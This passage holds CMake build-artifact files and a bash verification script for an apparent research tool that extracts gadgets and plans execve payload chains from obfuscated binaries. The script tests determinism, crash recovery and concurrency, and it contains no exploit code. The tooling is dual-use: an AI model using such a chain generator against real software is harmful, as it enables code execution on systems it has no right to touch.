  "libgp_solver.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_solver.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
