# Empty dependencies file for gp_cfg.
# This may be replaced when dependencies are built.
