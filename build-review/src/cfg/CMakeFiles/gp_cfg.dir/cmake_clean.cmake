file(REMOVE_RECURSE
  "CMakeFiles/gp_cfg.dir/cfg.cpp.o"
  "CMakeFiles/gp_cfg.dir/cfg.cpp.o.d"
  "libgp_cfg.a"
  "libgp_cfg.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_cfg.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
