file(REMOVE_RECURSE
  "libgp_cfg.a"
)
