file(REMOVE_RECURSE
  "libgp_store.a"
)
