# Empty compiler generated dependencies file for gp_store.
# This may be replaced when dependencies are built.
