file(REMOVE_RECURSE
  "CMakeFiles/gp_store.dir/store.cpp.o"
  "CMakeFiles/gp_store.dir/store.cpp.o.d"
  "libgp_store.a"
  "libgp_store.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_store.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
