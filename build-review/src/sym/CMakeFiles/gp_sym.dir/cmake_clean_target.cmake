file(REMOVE_RECURSE
  "libgp_sym.a"
)
