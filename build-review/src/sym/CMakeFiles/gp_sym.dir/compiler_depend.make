# Empty compiler generated dependencies file for gp_sym.
# This may be replaced when dependencies are built.
