file(REMOVE_RECURSE
  "CMakeFiles/gp_sym.dir/exec.cpp.o"
  "CMakeFiles/gp_sym.dir/exec.cpp.o.d"
  "libgp_sym.a"
  "libgp_sym.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_sym.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
