file(REMOVE_RECURSE
  "libgp_lift.a"
)
