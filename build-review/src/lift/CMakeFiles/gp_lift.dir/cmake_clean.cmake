file(REMOVE_RECURSE
  "CMakeFiles/gp_lift.dir/lift.cpp.o"
  "CMakeFiles/gp_lift.dir/lift.cpp.o.d"
  "libgp_lift.a"
  "libgp_lift.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_lift.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
