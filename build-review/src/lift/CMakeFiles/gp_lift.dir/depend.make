# Empty dependencies file for gp_lift.
# This may be replaced when dependencies are built.
