# CMake generated Testfile for 
# Source directory: /root/repo/src
# Build directory: /root/repo/build-review/src
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
subdirs("support")
subdirs("store")
subdirs("x86")
subdirs("image")
subdirs("solver")
subdirs("ir")
subdirs("lift")
subdirs("sym")
subdirs("emu")
subdirs("cfg")
subdirs("minic")
subdirs("obfuscate")
subdirs("codegen")
subdirs("gadget")
subdirs("subsume")
subdirs("planner")
subdirs("payload")
subdirs("baselines")
subdirs("corpus")
subdirs("core")
