file(REMOVE_RECURSE
  "CMakeFiles/gp_x86.dir/decoder.cpp.o"
  "CMakeFiles/gp_x86.dir/decoder.cpp.o.d"
  "CMakeFiles/gp_x86.dir/encoder.cpp.o"
  "CMakeFiles/gp_x86.dir/encoder.cpp.o.d"
  "CMakeFiles/gp_x86.dir/inst.cpp.o"
  "CMakeFiles/gp_x86.dir/inst.cpp.o.d"
  "libgp_x86.a"
  "libgp_x86.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_x86.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
