# Empty dependencies file for gp_x86.
# This may be replaced when dependencies are built.
