file(REMOVE_RECURSE
  "libgp_x86.a"
)
