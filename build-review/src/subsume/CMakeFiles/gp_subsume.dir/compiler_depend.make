# Empty compiler generated dependencies file for gp_subsume.
# This may be replaced when dependencies are built.
