file(REMOVE_RECURSE
  "libgp_subsume.a"
)
