file(REMOVE_RECURSE
  "CMakeFiles/gp_subsume.dir/subsume.cpp.o"
  "CMakeFiles/gp_subsume.dir/subsume.cpp.o.d"
  "libgp_subsume.a"
  "libgp_subsume.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_subsume.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
