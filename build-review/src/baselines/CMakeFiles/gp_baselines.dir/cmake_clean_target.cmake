file(REMOVE_RECURSE
  "libgp_baselines.a"
)
