file(REMOVE_RECURSE
  "CMakeFiles/gp_baselines.dir/baselines.cpp.o"
  "CMakeFiles/gp_baselines.dir/baselines.cpp.o.d"
  "libgp_baselines.a"
  "libgp_baselines.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_baselines.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
