# Empty dependencies file for gp_baselines.
# This may be replaced when dependencies are built.
