file(REMOVE_RECURSE
  "CMakeFiles/gp_payload.dir/payload.cpp.o"
  "CMakeFiles/gp_payload.dir/payload.cpp.o.d"
  "CMakeFiles/gp_payload.dir/serialize.cpp.o"
  "CMakeFiles/gp_payload.dir/serialize.cpp.o.d"
  "libgp_payload.a"
  "libgp_payload.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_payload.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
