file(REMOVE_RECURSE
  "libgp_payload.a"
)
