# Empty dependencies file for gp_payload.
# This may be replaced when dependencies are built.
