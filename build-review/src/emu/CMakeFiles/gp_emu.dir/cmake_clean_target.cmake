file(REMOVE_RECURSE
  "libgp_emu.a"
)
