file(REMOVE_RECURSE
  "CMakeFiles/gp_emu.dir/emu.cpp.o"
  "CMakeFiles/gp_emu.dir/emu.cpp.o.d"
  "libgp_emu.a"
  "libgp_emu.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_emu.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
