# Empty dependencies file for gp_emu.
# This may be replaced when dependencies are built.
