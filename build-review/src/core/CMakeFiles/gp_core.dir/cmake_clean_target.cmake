file(REMOVE_RECURSE
  "libgp_core.a"
)
