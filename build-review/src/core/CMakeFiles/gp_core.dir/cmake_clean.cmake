file(REMOVE_RECURSE
  "CMakeFiles/gp_core.dir/core.cpp.o"
  "CMakeFiles/gp_core.dir/core.cpp.o.d"
  "libgp_core.a"
  "libgp_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
