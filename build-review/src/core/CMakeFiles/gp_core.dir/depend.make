# Empty dependencies file for gp_core.
# This may be replaced when dependencies are built.
