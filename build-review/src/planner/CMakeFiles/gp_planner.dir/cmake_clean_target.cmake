file(REMOVE_RECURSE
  "libgp_planner.a"
)
