file(REMOVE_RECURSE
  "CMakeFiles/gp_planner.dir/planner.cpp.o"
  "CMakeFiles/gp_planner.dir/planner.cpp.o.d"
  "libgp_planner.a"
  "libgp_planner.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_planner.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
