# Empty compiler generated dependencies file for gp_planner.
# This may be replaced when dependencies are built.
