# Empty dependencies file for gp_gadget.
# This may be replaced when dependencies are built.
