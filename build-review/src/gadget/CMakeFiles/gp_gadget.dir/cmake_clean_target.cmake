file(REMOVE_RECURSE
  "libgp_gadget.a"
)
