file(REMOVE_RECURSE
  "CMakeFiles/gp_gadget.dir/gadget.cpp.o"
  "CMakeFiles/gp_gadget.dir/gadget.cpp.o.d"
  "CMakeFiles/gp_gadget.dir/serialize.cpp.o"
  "CMakeFiles/gp_gadget.dir/serialize.cpp.o.d"
  "libgp_gadget.a"
  "libgp_gadget.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_gadget.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
