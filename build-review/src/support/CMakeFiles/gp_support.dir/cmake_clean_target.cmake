file(REMOVE_RECURSE
  "libgp_support.a"
)
