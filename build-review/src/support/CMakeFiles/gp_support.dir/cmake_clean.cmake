file(REMOVE_RECURSE
  "CMakeFiles/gp_support.dir/fault.cpp.o"
  "CMakeFiles/gp_support.dir/fault.cpp.o.d"
  "CMakeFiles/gp_support.dir/governor.cpp.o"
  "CMakeFiles/gp_support.dir/governor.cpp.o.d"
  "CMakeFiles/gp_support.dir/serial.cpp.o"
  "CMakeFiles/gp_support.dir/serial.cpp.o.d"
  "CMakeFiles/gp_support.dir/thread_pool.cpp.o"
  "CMakeFiles/gp_support.dir/thread_pool.cpp.o.d"
  "libgp_support.a"
  "libgp_support.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_support.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
