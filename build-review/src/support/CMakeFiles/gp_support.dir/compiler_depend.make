# Empty compiler generated dependencies file for gp_support.
# This may be replaced when dependencies are built.
