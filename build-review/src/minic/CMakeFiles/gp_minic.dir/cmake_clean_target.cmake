file(REMOVE_RECURSE
  "libgp_minic.a"
)
