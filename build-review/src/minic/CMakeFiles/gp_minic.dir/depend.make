# Empty dependencies file for gp_minic.
# This may be replaced when dependencies are built.
