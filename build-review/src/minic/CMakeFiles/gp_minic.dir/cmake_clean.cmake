file(REMOVE_RECURSE
  "CMakeFiles/gp_minic.dir/minic.cpp.o"
  "CMakeFiles/gp_minic.dir/minic.cpp.o.d"
  "libgp_minic.a"
  "libgp_minic.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_minic.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
