file(REMOVE_RECURSE
  "CMakeFiles/fig5_per_obfuscation.dir/fig5_per_obfuscation.cpp.o"
  "CMakeFiles/fig5_per_obfuscation.dir/fig5_per_obfuscation.cpp.o.d"
  "fig5_per_obfuscation"
  "fig5_per_obfuscation.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig5_per_obfuscation.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
