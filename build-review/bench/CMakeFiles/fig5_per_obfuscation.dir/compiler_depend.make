# Empty compiler generated dependencies file for fig5_per_obfuscation.
# This may be replaced when dependencies are built.
