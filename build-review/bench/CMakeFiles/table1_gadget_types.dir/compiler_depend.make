# Empty compiler generated dependencies file for table1_gadget_types.
# This may be replaced when dependencies are built.
