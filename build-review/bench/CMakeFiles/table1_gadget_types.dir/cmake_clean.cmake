file(REMOVE_RECURSE
  "CMakeFiles/table1_gadget_types.dir/table1_gadget_types.cpp.o"
  "CMakeFiles/table1_gadget_types.dir/table1_gadget_types.cpp.o.d"
  "table1_gadget_types"
  "table1_gadget_types.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table1_gadget_types.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
