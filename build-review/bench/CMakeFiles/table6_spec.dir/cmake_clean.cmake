file(REMOVE_RECURSE
  "CMakeFiles/table6_spec.dir/table6_spec.cpp.o"
  "CMakeFiles/table6_spec.dir/table6_spec.cpp.o.d"
  "table6_spec"
  "table6_spec.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table6_spec.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
