# Empty compiler generated dependencies file for table6_spec.
# This may be replaced when dependencies are built.
