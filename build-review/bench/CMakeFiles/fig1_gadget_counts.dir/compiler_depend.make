# Empty compiler generated dependencies file for fig1_gadget_counts.
# This may be replaced when dependencies are built.
