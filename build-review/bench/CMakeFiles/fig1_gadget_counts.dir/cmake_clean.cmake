file(REMOVE_RECURSE
  "CMakeFiles/fig1_gadget_counts.dir/fig1_gadget_counts.cpp.o"
  "CMakeFiles/fig1_gadget_counts.dir/fig1_gadget_counts.cpp.o.d"
  "fig1_gadget_counts"
  "fig1_gadget_counts.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig1_gadget_counts.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
