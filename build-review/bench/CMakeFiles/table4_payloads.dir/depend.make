# Empty dependencies file for table4_payloads.
# This may be replaced when dependencies are built.
