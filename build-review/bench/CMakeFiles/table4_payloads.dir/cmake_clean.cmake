file(REMOVE_RECURSE
  "CMakeFiles/table4_payloads.dir/table4_payloads.cpp.o"
  "CMakeFiles/table4_payloads.dir/table4_payloads.cpp.o.d"
  "table4_payloads"
  "table4_payloads.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table4_payloads.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
