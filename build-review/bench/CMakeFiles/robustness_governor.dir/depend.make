# Empty dependencies file for robustness_governor.
# This may be replaced when dependencies are built.
