file(REMOVE_RECURSE
  "CMakeFiles/robustness_governor.dir/robustness_governor.cpp.o"
  "CMakeFiles/robustness_governor.dir/robustness_governor.cpp.o.d"
  "robustness_governor"
  "robustness_governor.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/robustness_governor.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
