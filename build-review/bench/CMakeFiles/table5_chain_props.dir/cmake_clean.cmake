file(REMOVE_RECURSE
  "CMakeFiles/table5_chain_props.dir/table5_chain_props.cpp.o"
  "CMakeFiles/table5_chain_props.dir/table5_chain_props.cpp.o.d"
  "table5_chain_props"
  "table5_chain_props.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table5_chain_props.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
