# Empty dependencies file for table5_chain_props.
# This may be replaced when dependencies are built.
