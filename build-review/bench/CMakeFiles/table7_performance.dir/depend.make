# Empty dependencies file for table7_performance.
# This may be replaced when dependencies are built.
