file(REMOVE_RECURSE
  "CMakeFiles/table7_performance.dir/table7_performance.cpp.o"
  "CMakeFiles/table7_performance.dir/table7_performance.cpp.o.d"
  "table7_performance"
  "table7_performance.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table7_performance.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
