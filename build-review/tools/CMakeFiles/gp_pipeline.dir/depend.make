# Empty dependencies file for gp_pipeline.
# This may be replaced when dependencies are built.
