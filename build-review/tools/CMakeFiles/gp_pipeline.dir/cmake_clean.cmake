file(REMOVE_RECURSE
  "CMakeFiles/gp_pipeline.dir/gp_pipeline.cpp.o"
  "CMakeFiles/gp_pipeline.dir/gp_pipeline.cpp.o.d"
  "gp_pipeline"
  "gp_pipeline.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_pipeline.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
