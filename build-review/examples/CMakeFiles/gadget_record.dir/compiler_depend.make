# Empty compiler generated dependencies file for gadget_record.
# This may be replaced when dependencies are built.
