file(REMOVE_RECURSE
  "CMakeFiles/gadget_record.dir/gadget_record.cpp.o"
  "CMakeFiles/gadget_record.dir/gadget_record.cpp.o.d"
  "gadget_record"
  "gadget_record.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gadget_record.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
