file(REMOVE_RECURSE
  "CMakeFiles/spec_chain.dir/spec_chain.cpp.o"
  "CMakeFiles/spec_chain.dir/spec_chain.cpp.o.d"
  "spec_chain"
  "spec_chain.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/spec_chain.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
