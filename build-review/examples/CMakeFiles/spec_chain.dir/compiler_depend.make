# Empty compiler generated dependencies file for spec_chain.
# This may be replaced when dependencies are built.
