file(REMOVE_RECURSE
  "CMakeFiles/obfuscation_report.dir/obfuscation_report.cpp.o"
  "CMakeFiles/obfuscation_report.dir/obfuscation_report.cpp.o.d"
  "obfuscation_report"
  "obfuscation_report.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/obfuscation_report.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
