# Empty compiler generated dependencies file for obfuscation_report.
# This may be replaced when dependencies are built.
