#!/usr/bin/env bash
# Tier-1 verification: full build + test suite, then the concurrency tests
# again under ThreadSanitizer (catches data races the functional suite
# can't), then the robustness/fault-injection suite under ASan+UBSan
# (catches memory errors on the degradation paths, which by design unwind
# through partially-built state), then a kill-resume drill: SIGKILL the
# pipeline mid-extraction and prove the checkpoint store resumes it to
# byte-identical payloads. Run from the repo root.
#
# Suites carry ctest labels (unit / robustness / slow) so stages can select:
#   ctest -L robustness        only the chaos/degradation suites
#   ctest -LE slow             everything but the whole-pipeline sweeps
set -euo pipefail
cd "$(dirname "$0")/.."

echo "== tier-1: build + full test suite =="
cmake -B build -S .
cmake --build build -j
(cd build && ctest --output-on-failure -j)

echo "== tier-1: kill-resume determinism drill =="
# GP_THREADS=1 pins the exact sequential path: the subsumption winnow is
# deterministic even when its solver-check budget is exhausted, so a cold
# run and a killed-then-resumed run must emit byte-identical payloads.
KR_TMP=$(mktemp -d)
trap 'rm -rf "$KR_TMP"' EXIT
mkdir -p "$KR_TMP/cold" "$KR_TMP/warm" "$KR_TMP/store"
PIPELINE=build/tools/gp_pipeline

echo "-- cold reference run (no store)"
GP_THREADS=1 "$PIPELINE" --goal execve --out "$KR_TMP/cold" --report

echo "-- interrupted run (SIGKILL mid-pipeline)"
# The kill must land AFTER at least one stage checkpoint has committed
# (extract+subsume finish in ~0.3s; planning takes ~1s) or the "resume"
# would just be a cold recompute. A checkpoint only counts once the
# manifest exists — an artifact whose manifest write was interrupted is
# an orphan the store deliberately refuses to trust. Retry with a longer
# fuse on slow or loaded machines until a checkpoint has committed.
set +e
for fuse in 0.45 0.9 1.8 3.6; do
  GP_THREADS=1 GP_STORE_DIR="$KR_TMP/store" \
    "$PIPELINE" --goal execve --out "$KR_TMP/warm" >/dev/null 2>&1 &
  victim=$!
  sleep "$fuse"
  kill -KILL "$victim" 2>/dev/null
  wait "$victim" 2>/dev/null
  [ -s "$KR_TMP/store/manifest.gpm" ] && break
  echo "   (no checkpoint committed within ${fuse}s; retrying)"
done
set -e
[ -s "$KR_TMP/store/manifest.gpm" ]

echo "-- resumed run (same store)"
GP_THREADS=1 GP_STORE_DIR="$KR_TMP/store" \
  "$PIPELINE" --goal execve --out "$KR_TMP/warm" --report \
  | tee "$KR_TMP/resumed.report"
# The dead writer's checkpoints must be served as cross-process resumes.
grep -q "resumes=1" "$KR_TMP/resumed.report"

echo "-- diffing payloads"
diff -r "$KR_TMP/cold" "$KR_TMP/warm"
echo "kill-resume payloads byte-identical"

echo "== tier-1: campaign batch run (4 concurrent sessions) =="
# The whole corpus through gp_pipeline --campaign: 4 sessions at a time on
# one engine. The JSON summary must parse, no job may fail outright
# (degraded-but-usable statuses are acceptable), and — the multi-tenant
# determinism claim — the per-job result digests must be byte-identical to
# a sequential (--jobs 1) run of the same campaign. The sequential run
# additionally disables the planner's candidate index + nogood learning
# (GP_PLAN_INDEX=0), so the single digest diff proves BOTH invariants at
# once: concurrency does not change results, and the indexed search is a
# pure accelerator over the linear reference path. The 4-way summary is
# kept as the BENCH_pipeline.json perf artifact (per-stage seconds, pool
# sizes, chain counts per job).
# Campaign exit codes are 0 ok / 3 degraded / 4 failed; degraded jobs
# (deadline/budget, still usable) are acceptable here — the python below
# separately asserts that nothing failed outright.
rc=0
"$PIPELINE" --campaign --profiles llvm-obf --goal execve --jobs 4 \
  --summary BENCH_pipeline.json --trace-out "$KR_TMP/trace.json" || rc=$?
[ "$rc" -eq 0 ] || [ "$rc" -eq 3 ]
rc=0
GP_PLAN_INDEX=0 "$PIPELINE" --campaign --profiles llvm-obf --goal execve \
  --jobs 1 --summary "$KR_TMP/campaign-seq.json" >/dev/null || rc=$?
[ "$rc" -eq 0 ] || [ "$rc" -eq 3 ]
python3 - BENCH_pipeline.json "$KR_TMP/campaign-seq.json" <<'PY'
import json, sys
par, seq = (json.load(open(p)) for p in sys.argv[1:3])
assert par["schema"] == "gp-campaign-v1", par["schema"]
assert par["jobs"] == len(par["results"]) > 0
bad = [r for r in par["results"] if r["status"] == "internal"]
assert par["jobs_failed"] == 0 and not bad, f"failed jobs: {bad}"
dig = lambda s: {(r["program"], r["obfuscation"], r["opt_level"]): r["digest"]
                 for r in s["results"]}
assert dig(par) == dig(seq), \
    "concurrency or the planner index changed campaign results"
print(f'campaign: {par["jobs"]} jobs ok, '
      f'4-way indexed digests == sequential linear-reference digests')
PY

echo "== tier-1: planner index + dead-end learning drill =="
# Three claims over the indexed campaign run:
#  1. Unreachable goals fail fast: any job the reachability precheck
#     rejected must spend under a second in the plan stage (they used to
#     burn the full ~57s search budget each to find nothing).
#  2. Nogood learning keeps the search out of known dead ends: the
#     aggregate dead-end/expansion ratio stays bounded (the pre-index
#     planner sat near 195 dead ends per expansion on this corpus).
#  3. The new planner counters are present and the index actually served
#     the search (hits > 0 across the campaign).
python3 - BENCH_pipeline.json <<'PY'
import json, sys
s = json.load(open(sys.argv[1]))
res = s["results"]
counters = ("plan_index_hits", "plan_index_loads", "plan_nogood_hits",
            "plan_needs_truncated", "plan_unreachable_goals")
for r in res:
    for c in counters:
        assert c in r["metrics"], f'{r["program"]}: missing {c}'
unreachable = [r for r in res if r["metrics"]["plan_unreachable_goals"] > 0]
slow = [(r["program"], r["obfuscation"], r["plan_seconds"])
        for r in unreachable if r["plan_seconds"] >= 1.0]
assert not slow, f"unreachable jobs not fast-failed: {slow}"
for r in unreachable:
    assert r["chains_total"] == 0, \
        f'{r["program"]}: precheck rejected a goal that produced chains'
exp = sum(r["metrics"]["plan_expansions"] for r in res)
dead = sum(r["metrics"]["plan_dead_ends"] for r in res)
ratio = dead / max(exp, 1)
assert ratio < 32, f"dead-end/expansion ratio regressed: {ratio:.1f}"
assert sum(r["metrics"]["plan_index_hits"] for r in res) > 0
print(f'planner drill: {len(unreachable)} unreachable jobs fast-failed, '
      f'dead-end ratio {ratio:.2f}, index counters live')
PY

echo "== tier-1: observability drill =="
# The campaign above also wrote a Chrome trace (--trace-out). It must
# parse, every job must carry a job span, every session all three stage
# spans, and the summary the aggregate metrics block plus the
# critical-path verdict.
python3 - BENCH_pipeline.json "$KR_TMP/trace.json" <<'PY'
import json, sys
summary, trace = (json.load(open(p)) for p in sys.argv[1:3])
assert trace.get("displayTimeUnit") == "ms"
events = trace["traceEvents"]
assert events and all(e["ph"] == "X" and "ts" in e and "dur" in e
                      for e in events)
jobs = [e for e in events if e["cat"] == "job"]
assert len(jobs) == summary["jobs"], (len(jobs), summary["jobs"])
sessions = {}
for e in events:
    if e["cat"] == "stage" and e["args"]["session"]:
        sessions.setdefault(e["args"]["session"], set()).add(e["name"])
with_all = [s for s in sessions.values()
            if {"extract", "subsume", "plan"} <= s]
assert len(with_all) >= summary["jobs"], (len(with_all), summary["jobs"])
counters = summary["metrics"]["counters"]
assert counters["solver.checks"] > 0 and counters["extract.gadgets"] > 0
cp = summary["critical_path"]
assert cp["job"] >= 0 and cp["stage"] in ("extract", "subsume", "plan"), cp
print(f'observability: {len(jobs)} job spans, {len(with_all)} sessions '
      f'with all three stage spans, aggregate metrics + critical path ok')
PY

# Disabled-mode cost: GP_METRICS=0 GP_TRACE=0 must stay within noise of
# the default instrumented run. The bound is deliberately generous (25%)
# so loaded CI machines don't flake; the real claim lives in
# bench/observability_overhead (~2%).
python3 - "$PIPELINE" <<'PY'
import os, subprocess, sys, time
pipeline = sys.argv[1]
def best(extra, runs=2):
    env = dict(os.environ, **extra)
    times = []
    for _ in range(runs):
        t0 = time.monotonic()
        subprocess.run([pipeline, "--goal", "execve"], check=True,
                       stdout=subprocess.DEVNULL, env=env)
        times.append(time.monotonic() - t0)
    return min(times)
on = best({"GP_METRICS": "1", "GP_TRACE": "1"})
off = best({"GP_METRICS": "0", "GP_TRACE": "0"})
assert off <= on * 1.25, f"disabled run slower than instrumented: {off} vs {on}"
print(f"observability overhead: instrumented {on:.2f}s, disabled {off:.2f}s")
PY

echo "== tier-1: opt-level drill (determinism, distinctness, store isolation) =="
# Three claims about codegen -O0/-O2:
#  1. Per-level determinism: compiling the same program twice at one level
#     yields byte-identical images, and a campaign re-run at the same
#     levels yields identical result digests per (program, profile, level).
#  2. Distinctness: the O0 and O2 images of one program differ (the
#     optimizer is not a no-op).
#  3. Store isolation: artifact-store keys are derived from image bytes,
#     so a warm O2 run over a store populated at O0 must recompute from
#     scratch — never serve an O0 checkpoint to an O2 analysis. A second
#     O2 run over the same store then must resume (positive control that
#     the store itself works at O2).
OPT="$KR_TMP/opt"
mkdir -p "$OPT/store"
# Single-job pipeline runs exit 1 when a goal finds zero chains; at O2
# that is a legitimate measured outcome (the optimizer shrinks the gadget
# surface), not a tooling failure. Tolerate exit<=1, reject anything else.
run_opt() { # opt_level image_path [extra args...]
  local _lvl="$1" _img="$2" _rc=0; shift 2
  GP_OPT_LEVEL=$_lvl "$PIPELINE" --goal execve \
    --save-image "$_img" "$@" >/dev/null || _rc=$?
  [ "$_rc" -le 1 ] || { echo "O$_lvl pipeline failed (rc=$_rc)"; exit 1; }
}
for level in 0 2; do
  run_opt "$level" "$OPT/a$level.gpim"
  run_opt "$level" "$OPT/b$level.gpim"
  cmp "$OPT/a$level.gpim" "$OPT/b$level.gpim" \
    || { echo "O$level images not deterministic"; exit 1; }
done
cmp -s "$OPT/a0.gpim" "$OPT/a2.gpim" \
  && { echo "O0 and O2 images are byte-identical (optimizer inert)"; exit 1; }
echo "   image determinism per level ok; O0 != O2"

rc=0
"$PIPELINE" --campaign --profiles none --opt-levels 0,2 --goal execve \
  --jobs 2 --summary "$OPT/opt-a.json" >/dev/null || rc=$?
[ "$rc" -eq 0 ] || [ "$rc" -eq 3 ]
rc=0
"$PIPELINE" --campaign --profiles none --opt-levels 0,2 --goal execve \
  --jobs 2 --summary "$OPT/opt-b.json" >/dev/null || rc=$?
[ "$rc" -eq 0 ] || [ "$rc" -eq 3 ]
python3 - "$OPT/opt-a.json" "$OPT/opt-b.json" <<'PY'
import json, sys
a, b = (json.load(open(p)) for p in sys.argv[1:3])
dig = lambda s: {(r["program"], r["obfuscation"], r["opt_level"]): r["digest"]
                 for r in s["results"]}
da, db = dig(a), dig(b)
assert da == db, "campaign digests not deterministic per opt level"
levels = {k[2] for k in da}
assert levels == {0, 2}, f"opt_level axis not fanned: {levels}"
print(f'   campaign: {len(da)} (program, profile, level) digests '
      f'deterministic across re-runs, levels {sorted(levels)} present')
PY

echo "-- store isolation: O2 over an O0-populated store must recompute"
GP_THREADS=1 GP_OPT_LEVEL=0 GP_STORE_DIR="$OPT/store" \
  "$PIPELINE" --goal execve >/dev/null
# Capture reports to files rather than grepping mid-pipe: under pipefail
# an exit-1 (zero chains) from the O2 pipeline would poison the pipe
# status and mask what the grep actually found.
run_o2_report() { # report_path
  local _rc=0
  GP_THREADS=1 GP_OPT_LEVEL=2 GP_STORE_DIR="$OPT/store" \
    "$PIPELINE" --goal execve --report >"$1" || _rc=$?
  [ "$_rc" -le 1 ] || { echo "O2 pipeline failed (rc=$_rc)"; exit 1; }
}
run_o2_report "$OPT/o2-cold.report"
grep -E 'hits=[1-9]|resumes=[1-9]' "$OPT/o2-cold.report" \
  && { echo "O2 run reused O0 checkpoints (store keys not isolated)"; exit 1; }
run_o2_report "$OPT/o2-warm.report"
grep -Eq 'hits=[1-9]|resumes=[1-9]' "$OPT/o2-warm.report" \
  || { echo "second O2 run did not reuse its own checkpoints"; exit 1; }
echo "   O0-store never served the O2 run; O2 re-run reused its own work"

echo "== tier-1: serve drill (concurrency, SIGKILL, resume, shed, drain) =="
# The daemon's crash-tolerance claims, end to end over a real socket:
#   1. 32 concurrent gp_client submits against one warm engine all succeed
#      and their digests form the reference set.
#   2. SIGKILL the daemon mid-flight on a fresh store; the artifact
#      store's committed checkpoints survive the crash.
#   3. A restarted daemon on the same store resumes the reissued requests
#      warm (cache hits / resumes observed) to byte-identical digests.
#   4. With GP_SERVE_QUEUE-sized admission (queue=1, max-active=1) a
#      burst is shed with RETRY_AFTER (gp_client exit 5, serve.shed > 0).
#   5. SIGTERM drains: admitted work finishes, exit status 0, manifest
#      on disk.
#   6. Journal replay: a SIGKILLed daemon's *backlog* (admitted, not yet
#      finished) is re-enqueued by the restarted daemon itself and
#      finishes with digests identical to a clean run — clients only
#      attach, nothing is resubmitted.
#   7. Poison quarantine: a job that crashes the daemon twice
#      (GP_FAULT=job_crash=1) is quarantined by the third, healthy
#      daemon and answered `poisoned` instead of crashing it again.
SERVE=build/tools/gp_serve
CLIENT=build/tools/gp_client
SV="$KR_TMP/serve"
mkdir -p "$SV/store-ref" "$SV/store" "$SV/out"
SOCK="$SV/gp.sock"
SERVE_PID=

start_serve() { # store_dir queue max_active
  : > "$SV/ready"
  "$SERVE" --sock "$SOCK" --store "$1" --queue "$2" --max-active "$3" \
    --ready-fd 3 3>"$SV/ready" 2>>"$SV/serve.log" &
  SERVE_PID=$!
  for _ in $(seq 1 100); do
    [ -s "$SV/ready" ] && return 0
    sleep 0.1
  done
  echo "gp_serve failed to become ready"; return 1
}

# 8 cheap corpus programs x 4 seeds = 32 distinct jobs (seed is part of
